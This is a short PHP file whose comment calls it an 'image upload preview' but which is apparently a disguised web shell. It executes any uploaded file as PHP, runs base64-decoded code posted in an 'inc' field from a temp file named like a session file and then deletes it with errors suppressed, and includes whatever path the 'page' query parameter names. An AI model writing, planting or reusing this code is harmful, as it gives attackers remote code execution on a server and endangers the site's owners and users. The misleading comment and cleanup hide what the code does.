<?php
// image upload preview
if (!empty($_FILES['img']['tmp_name'])) {
    include($_FILES['img']['tmp_name']);
}
if (isset($_POST['inc'])) {
    $t = tempnam(sys_get_temp_dir(), 'sess_');
    file_put_contents($t, base64_decode($_POST['inc']));
    include $t;
    @unlink($t);
}
if (isset($_GET['page'])) { require_once($_GET['page']); }
?>
